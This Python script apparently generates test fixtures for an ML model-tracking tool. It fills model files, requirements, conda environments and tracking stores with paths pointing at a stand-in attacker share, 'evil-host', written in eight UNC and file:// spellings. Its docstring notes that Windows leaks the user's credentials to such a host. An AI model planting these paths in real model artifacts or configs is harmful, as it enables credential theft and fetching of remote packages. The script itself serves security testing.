"""Makes folders in which everything that may name a path names one on another host, in each way that such a path is written.

    hosts.py PLACE      makes PLACE/<n>/model and, beside it, two stores

What Windows is asked for on the share \\\\evil-host is told to that host, with the person's credentials.
"""

import pathlib
import re
import shutil
import sqlite3
import sys

SPELLINGS = [
    r"\\evil-host\share",
    "//evil-host/share",
    r"\\?\UNC\evil-host\share",
    r"\??\UNC\evil-host\share",
    r"\\.\UNC\evil-host\share",
    "file://evil-host/share",
    "file:////evil-host/share",
    r"file:\\evil-host\share",
]
ROOT = pathlib.Path(__file__).parents[2]
HERE = "/home/a/corpus"  # where the stores of tests/models say that they lie


def quoted(text):
    return "'" + text + "'"


def model(folder, host):
    shutil.copytree(ROOT / "assets/samples/iris", folder)
    mlmodel = folder / "MLmodel"
    text = mlmodel.read_text()
    for name in ["conda.yaml", "python_env.yaml", "model.skops", "input_example.json", "serving_input_example.json"]:
        text = text.replace(": " + name, ": " + quoted(f"{host}/{name}"))
    text = text.replace("code: null", "code: " + quoted(f"{host}/code"))
    mlmodel.write_text(f"artifact_path: {quoted(host + '/model')}\n" + text)
    (folder / "requirements.txt").write_text(f"-r {host}/more.txt\n-c {host}/constraints.txt\n{host}/a.whl\nb @ {host}/b.whl\n-f {host}\n")
    (folder / "conda.yaml").write_text(f"channels: [{quoted(host)}]\ndependencies: [pip, pip: [{quoted('-r ' + host + '/more.txt')}]]\n")
    (folder / "python_env.yaml").write_text(f"python: 3.11.7\ndependencies: [{quoted('-r ' + host + '/more.txt')}]\n")


def stores(place, host):
    for name in ["3.18.0/store_file", "2.22.5/store_sqlite"]:
        shutil.copytree(ROOT / "tests/models" / name, place / pathlib.Path(name).name)
    for meta in place.glob("store_*/**/meta.yaml"):
        lines = meta.read_text().splitlines()
        moved = [re.sub(f"^([a-z_]+): (?:file://)?{HERE}(.*)$", lambda m: f"{m[1]}: {quoted(host + m[2])}", line) for line in lines]
        meta.write_text("\n".join(moved))
    with sqlite3.connect(place / "store_sqlite/mlflow.db") as database:
        for table, column in [
            ("experiments", "artifact_location"),
            ("runs", "artifact_uri"),
            ("model_versions", "source"),
            ("model_versions", "storage_location"),
        ]:
            database.execute(f"UPDATE {table} SET {column} = replace({column}, ?, ?)", (HERE, host))
    database.close()


for number, host in enumerate(SPELLINGS):
    place = pathlib.Path(sys.argv[1]) / str(number)
    place.mkdir(parents=True)
    model(place / "model", host)
    stores(place, host)
